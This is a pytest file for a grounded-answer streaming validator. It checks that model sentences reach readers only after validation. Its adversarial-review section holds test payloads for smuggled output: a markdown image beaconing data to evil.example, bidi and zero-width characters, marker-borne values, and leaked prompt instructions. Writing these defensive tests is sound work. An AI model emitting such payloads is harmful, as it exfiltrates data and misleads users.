"""Validated streaming: a reader sees only sentences R5 has judged, then one response.

Every case runs under both modes (``buffered``: nothing until the whole answer passed;
``progressive``: each sentence once it and those before it pass, a retraction if the
answer fails after all) and through ``stream``, ``astream`` and ``astream_events``.
"""

from __future__ import annotations

import asyncio
import gc
from typing import Any

import pytest

from groundlock import grounded_answer_chain, load_policy
from groundlock.contracts.enums import GenerationStatus
from groundlock.contracts.reasons import ReasonCode
from groundlock.contracts.stream import AnswerDelta, ResponseEvent, Retract
from groundlock.policies.model import Policy
from groundlock.stores.sink import MemoryAuditSink
from tests.builders import make_bundle
from tests.fakes.chat import TokenStreamModel

CANARY = "ZEBRA-PLUM-7"
"""A word no evidence holds, in the sentence that must fail: it may never reach a reader."""

ROWS = [
    {"chunk_id": "c0", "rank": 0, "similarity": 0.91, "knowledge_id": "K0",
     "chunk_text": "Replace the case drain filter every 500 operating hours."},
    {"chunk_id": "c1", "rank": 1, "similarity": 0.88, "knowledge_id": "K1",
     "chunk_text": "Tighten the filter housing bolts to 40 Nm."},
    {"chunk_id": "c2", "rank": 2, "similarity": 0.85, "knowledge_id": "K2",
     "chunk_text": "Record the filter change in the maintenance log."},
]  # fmt: skip
GOOD = (
    "Replace the case drain filter every 500 operating hours. [C0] "
    "Tighten the filter housing bolts to 40 Nm. [C1] "
    "Record the filter change in the maintenance log. [C2]"
)
BAD_LAST = (
    "Replace the case drain filter every 500 operating hours. [C0] "
    "Tighten the filter housing bolts to 40 Nm. [C1] "
    f"Tighten the bolts to 95 Nm with tool {CANARY}. [C1]"
)


def _policy(mode: str) -> Policy:
    if mode == "buffered":
        return load_policy()
    return load_policy().model_copy(
        update={"policy_version": "STREAM_TEST_V1", "stream_mode": mode}
    )


def _words(text: str) -> list[str]:
    """Tokens as a provider sends them: a word with the space before it."""
    out: list[str] = []
    for index, word in enumerate(text.split(" ")):
        out.append(word if index == 0 else " " + word)
    return out


def _chain(tokens: list[str], mode: str, **model: Any) -> tuple[Any, MemoryAuditSink]:
    store = MemoryAuditSink()
    chain = grounded_answer_chain(
        model=TokenStreamModel(tokens=tokens, **model), policy=_policy(mode), store=store
    )
    return chain, store


def _bundle() -> dict[str, Any]:
    return make_bundle(
        ROWS, user_question="How often is the case drain filter replaced, and at what torque?"
    )


def _stream(chain: Any, how: str, bundle: dict[str, Any] | None = None) -> list[Any]:
    given = bundle if bundle is not None else _bundle()
    if how == "stream":
        return list(chain.stream(given))

    async def collect() -> list[Any]:
        if how == "astream":
            return [event async for event in chain.astream(given)]
        events = [event async for event in chain.astream_events(given, version="v2")]
        # The caller's own input aside, nothing but the chain's run shows in the stream.
        assert {event["name"] for event in events} == {"groundlock.grounded_answer"}
        assert CANARY not in repr(events)
        return [e["data"]["chunk"] for e in events if e["event"] == "on_chain_stream"]

    return asyncio.run(collect())


def _shape(events: list[Any]) -> list[str]:
    return [event.type for event in events]


HOWS = ["stream", "astream", "astream_events"]


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_passing_answer_streams_its_sentences_then_the_response(how: str, mode: str) -> None:
    chain, store = _chain(_words(GOOD), mode)
    events = _stream(chain, how)
    assert _shape(events) == ["answer_delta"] * 3 + ["response"]
    response = events[-1].response
    assert response.status is GenerationStatus.OK
    assert "".join(event.text for event in events[:-1]) == response.answer == GOOD
    assert [[c.anchor for c in event.citations] for event in events[:-1]] == [
        ["C0"],
        ["C1"],
        ["C2"],
    ]
    assert [event.index for event in events[:-1]] == [0, 1, 2]
    [row] = store.validations
    assert row.status == "OK"
    assert row.stream_mode == mode


@pytest.mark.parametrize("how", HOWS)
def test_buffered_a_failing_answer_streams_the_response_alone(how: str) -> None:
    chain, store = _chain(_words(BAD_LAST), "buffered")
    events = _stream(chain, how)
    assert _shape(events) == ["response"]
    assert events[0].response.failure_reason is ReasonCode.UNSUPPORTED_VALUE
    assert CANARY not in repr(events)
    assert len(store.validations) == 1


@pytest.mark.parametrize("how", HOWS)
def test_progressive_good_sentences_go_out_and_are_retracted_when_a_later_one_fails(
    how: str,
) -> None:
    chain, store = _chain(_words(BAD_LAST), "progressive")
    events = _stream(chain, how)
    assert _shape(events) == ["answer_delta", "answer_delta", "retract", "response"]
    retract = events[2]
    assert isinstance(retract, Retract)
    assert retract.indexes == (0, 1)
    assert retract.reason is ReasonCode.UNSUPPORTED_VALUE
    assert events[-1].response.status is GenerationStatus.FAILED
    assert CANARY not in repr(events)
    [row] = store.validations
    assert row.status == "FAILED"
    assert row.stream_mode == "progressive"
    # The trail records what the reader was shown before the verdict.
    assert row.streamed_before_verdict == (events[0].text, events[1].text)


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_sentence_split_into_single_characters_streams_whole(how: str, mode: str) -> None:
    chain, _ = _chain(list(GOOD), mode)
    events = _stream(chain, how)
    assert [e.text for e in events[:-1]] == [
        "Replace the case drain filter every 500 operating hours. [C0]",
        " Tighten the filter housing bolts to 40 Nm. [C1]",
        " Record the filter change in the maintenance log. [C2]",
    ]


@pytest.mark.parametrize("how", HOWS)
def test_an_anchor_split_across_tokens_is_read_whole(how: str) -> None:
    first, second = GOOD.split(" [C1] ")
    tokens = [first[:-5], first[-5:-1], first[-1], " [", "C", "1", "]", " ", *_words(second)]
    assert "".join(tokens) == f"{first} [C1] {second}"
    chain, _ = _chain(tokens, "progressive")
    events = _stream(chain, how)
    assert events[-1].response.status is GenerationStatus.OK
    assert [c.anchor for c in events[0].citations] == ["C0"]
    assert [c.anchor for c in events[1].citations] == ["C1"]


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_model_that_stops_mid_sentence_shows_no_partial_sentence(how: str, mode: str) -> None:
    cut = GOOD[: GOOD.index("Record the filter") + len("Record the fil")]
    chain, _ = _chain(_words(cut), mode)
    events = _stream(chain, how)
    assert events[-1].response.status is GenerationStatus.FAILED
    assert "Record" not in repr(events[:-1])
    if mode == "progressive":
        assert _shape(events) == ["answer_delta", "answer_delta", "retract", "response"]


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_model_that_errors_mid_stream_fails_without_a_retry(how: str, mode: str) -> None:
    tokens = _words(GOOD)
    chain, store = _chain(tokens, mode, fail_after=len(tokens) - 4)
    events = _stream(chain, how)
    response = events[-1].response
    assert response.status is GenerationStatus.FAILED
    assert response.failure_reason is ReasonCode.MODEL_UNAVAILABLE
    [row] = store.validations
    assert row.attempts == 1  # text had reached R5: the attempt is not retried
    if mode == "progressive" and len(events) > 1:
        assert events[-2].type == "retract"


def test_a_model_that_fails_before_its_first_token_is_retried() -> None:
    chain, store = _chain(_words(GOOD), "progressive", fail_after=0)
    events = list(chain.stream(_bundle()))
    assert _shape(events) == ["response"]
    [row] = store.validations
    assert row.attempts == load_policy().execution.max_attempts


@pytest.mark.parametrize("how", HOWS)
@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_refusal_streams_as_the_response_alone(how: str, mode: str) -> None:
    chain, store = _chain(_words("x"), mode)
    far = [dict(row, similarity=0.1) for row in ROWS]
    events = _stream(chain, how, make_bundle(far))
    assert _shape(events) == ["response"]
    assert events[0].response.status is GenerationStatus.NO_EVIDENCE
    assert len(store.validations) == 1


@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_reader_that_stops_reading_still_leaves_one_record(mode: str) -> None:
    chain, store = _chain(_words(GOOD), mode)
    stream = chain.stream(_bundle())
    first = next(stream)
    assert isinstance(first, AnswerDelta | ResponseEvent)
    stream.close()
    gc.collect()
    assert len(store.validations) == 1


@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_an_async_reader_that_goes_away_leaves_one_record(mode: str) -> None:
    chain, store = _chain(_words(GOOD), mode, seconds_per_token=0.01)

    async def read_one_then_leave() -> None:
        task = asyncio.ensure_future(_first(chain))
        await asyncio.sleep(0.05)  # the model is mid-answer
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(read_one_then_leave())
    assert len(store.validations) == 1
    row = store.validations[0]
    assert (row.status, row.failure_reason) == ("FAILED", "CLIENT_DISCONNECTED")


async def _first(chain: Any) -> list[Any]:
    return [event async for event in chain.astream(_bundle())]


# What an adversarial review found (each failed before its fix) ---------------------------

S0, S1, S2 = (
    "Replace the case drain filter every 500 operating hours. [C0]",
    "Tighten the filter housing bolts to 40 Nm. [C1]",
    "Record the filter change in the maintenance log. [C2]",
)
BASE = "Replace the case drain filter every 500 operating hours"
CHUNK_ID = "kb7-chunk-000042"
SMUGGLED = {
    "a malformed marker carrying a value": (f"{BASE} [C0 and torque to 95 Nm]. [C0]", "95 Nm"),
    "a malformed marker carrying a word": (f"{BASE} [C0 with tool {CANARY}]. [C0]", CANARY),
    "a malformed marker carrying a chunk id": (f"{BASE} [C0 {CHUNK_ID}]. [C0]", CHUNK_ID),
    "a markdown image": (f"{BASE} ![x](https://evil.example/p.png?d=K0). [C0]", "evil.example"),
    "strikethrough": (BASE.replace("every", "~~never~~ every") + ". [C0]", "~~never~~"),
    "html": (BASE.replace("every", "<u>every</u>") + ". [C0]", "<u>"),
    "a zero-width space": (BASE.replace("case ", "case\u200b ") + ". [C0]", "\u200b"),
    "a bidi override": (BASE.replace("case", "\u202ecase\u202c") + ". [C0]", "\u202e"),
    "an invented anchor": (f"{BASE}. [C0][C9]", "[C9]"),
}


def _progressive_events(tokens: list[str], rows: list[dict[str, Any]] = ROWS) -> list[Any]:
    chain = grounded_answer_chain(
        model=TokenStreamModel(tokens=tokens), policy=_policy("progressive")
    )
    question = "How often is the case drain filter replaced, and at what torque?"
    return list(chain.stream(make_bundle(rows, user_question=question)))


@pytest.mark.parametrize("name", list(SMUGGLED))
def test_progressive_never_emits_what_a_whole_answer_rule_rejects(name: str) -> None:
    # Findings about no one sentence (a malformed marker, unsafe output, an unknown
    # anchor) hold a sentence back as much as a sentence's own: a retraction is too late
    # for a reader whose renderer has already fetched an image.
    sentence, secret = SMUGGLED[name]
    rows = [dict(ROWS[0], chunk_id=CHUNK_ID), *ROWS[1:]]
    events = _progressive_events(_words(f"{sentence} {S1} {S2}"), rows)
    assert events[-1].response.status is GenerationStatus.FAILED
    assert secret not in repr(events)


def test_progressive_never_emits_the_prompts_instructions_repeated() -> None:
    rule = "For the filter log you cite that evidence for every statement you make."
    rows = [*ROWS, {"chunk_id": "c3", "rank": 3, "similarity": 0.84, "knowledge_id": "K3",
                    "chunk_text": rule}]  # fmt: skip
    events = _progressive_events(_words(f"{S0} {rule} [C3] {S1} {S2}"), rows)
    assert events[-1].response.failure_reason is ReasonCode.METADATA_LEAK
    assert "every statement you make" not in repr(events)


@pytest.mark.parametrize("mode", ["buffered", "progressive"])
def test_a_model_without_a_stream_of_its_own_streams_what_invoke_answers(mode: str) -> None:
    from tests.fakes.chat import ScriptedChatModel  # noqa: PLC0415

    chain = grounded_answer_chain(model=ScriptedChatModel(text=GOOD), policy=_policy(mode))
    assert chain.invoke(_bundle()).status is GenerationStatus.OK
    events = list(chain.stream(_bundle()))
    assert _shape(events) == ["answer_delta"] * 3 + ["response"]
    assert events[-1].response.status is GenerationStatus.OK


def test_under_a_judged_policy_no_sentence_goes_out_before_the_judge() -> None:
    from langchain_core.runnables import RunnableLambda  # noqa: PLC0415

    judge = RunnableLambda(
        lambda q: {"verdict": "unsupported" if "40 Nm" in q["sentence"] else "supported",
                   "score": 0.9},
        name="judge",
    )  # fmt: skip
    policy = load_policy("R2_POLICY_V3_JUDGED").model_copy(
        update={"policy_version": "STREAM_JUDGED_V1", "stream_mode": "progressive"}
    )
    chain = grounded_answer_chain(
        model=TokenStreamModel(tokens=_words(GOOD)), policy=policy, judge=judge
    )
    events = list(chain.stream(_bundle()))
    assert events[-1].response.failure_reason is ReasonCode.SUPPORT_JUDGE_REJECTED
    assert _shape(events) == ["response"]


def test_text_from_another_model_than_the_pinned_one_never_goes_out() -> None:
    # The model's name comes with its first chunk: from then on no text reaches R5.
    chain, _ = _chain(_words(GOOD), "progressive")
    step = chain.steps[2]
    drifting = TokenStreamModel(tokens=_words(GOOD), model_name="another-model", name_first=True)
    for cap in list(step.stream_models):  # the provider answers with another model
        step.stream_models[cap] = drifting
    events = list(chain.stream(_bundle()))
    assert _shape(events) == ["response"]
    assert events[-1].response.failure_reason is ReasonCode.MODEL_DRIFT


RESEGMENTED = {
    "a citation list line": [*_words(GOOD), "\n", "Sources", ":", " [", "C", "0", "][", "C",
                             "1", "][", "C", "2", "]"],
    "a table row": _words(f"| {S0} | {S1} |\n{S2}"),
    "a quotation": _words(f'The manual says "{BASE}. [C0] Tighten the filter housing bolts to '
                          f'40 Nm." [C1] {S2}'),
}  # fmt: skip


@pytest.mark.parametrize("name", list(RESEGMENTED))
def test_an_answer_that_passes_is_never_retracted_and_its_deltas_join_into_it(name: str) -> None:
    events = _progressive_events(RESEGMENTED[name])
    response = events[-1].response
    assert response.status is GenerationStatus.OK
    assert "retract" not in _shape(events)
    assert "".join(e.text for e in events[:-1]) == response.answer


def test_an_applications_token_handler_hears_no_token_under_stream() -> None:
    # invoke's model never streams, so no handler hears a token; the streamed twin must not
    # change that (a handler printing tokens to a reader would show unjudged text).
    from langchain_core.callbacks import BaseCallbackHandler  # noqa: PLC0415

    class Tokens(BaseCallbackHandler):
        def __init__(self) -> None:
            self.tokens: list[str] = []
            self.ends = 0

        def on_llm_new_token(self, token: str, **kwargs: Any) -> None:
            self.tokens.append(token)

        def on_llm_end(self, response: Any, **kwargs: Any) -> None:
            self.ends += 1

    chain, _ = _chain(_words(BAD_LAST), "progressive")
    handler = Tokens()
    events = list(chain.stream(_bundle(), {"callbacks": [handler]}))
    assert events[-1].response.status is GenerationStatus.FAILED
    assert handler.tokens == []
    assert handler.ends == 1  # it still sees the model's run end, as under invoke


def test_a_stream_that_drips_past_the_request_deadline_ends_at_it() -> None:
    from langchain_openai import ChatOpenAI  # noqa: PLC0415

    from tests.builders import policy_with  # noqa: PLC0415
    from tests.fakes.openai_server import FakeOpenAI, Reply  # noqa: PLC0415

    execution = {**load_policy().execution.model_dump(), "max_attempts": 1,
                 "attempt_timeout_seconds": 0.5, "request_deadline_seconds": 1.0}  # fmt: skip
    policy = policy_with(policy_version="DRIP_V1", stream_mode="progressive", execution=execution)
    with FakeOpenAI() as server:
        server.script(Reply(text=GOOD, seconds_per_chunk=0.15))  # each read within its timeout
        model = ChatOpenAI(model="gpt-4.1-mini", api_key="sk-test", base_url=server.url)
        events = list(grounded_answer_chain(model=model, policy=policy).stream(_bundle()))
    assert events[-1].response.failure_reason is ReasonCode.MODEL_DEADLINE_EXCEEDED
    if len(events) > 1:
        assert events[-2].type == "retract"


def test_a_long_progressive_answer_judges_a_bounded_number_of_prefixes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from groundlock.core import streaming  # noqa: PLC0415

    calls = []
    judge = streaming.validate_answer

    def counted(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return judge(*args, **kwargs)

    monkeypatch.setattr(streaming, "validate_answer", counted)
    tokens = _words(" ".join([S1] * 89))[:800]  # the default output cap
    list(_chain(tokens, "progressive")[0].stream(_bundle()))
    assert len(calls) <= streaming.MAX_EARLY_SENTENCES
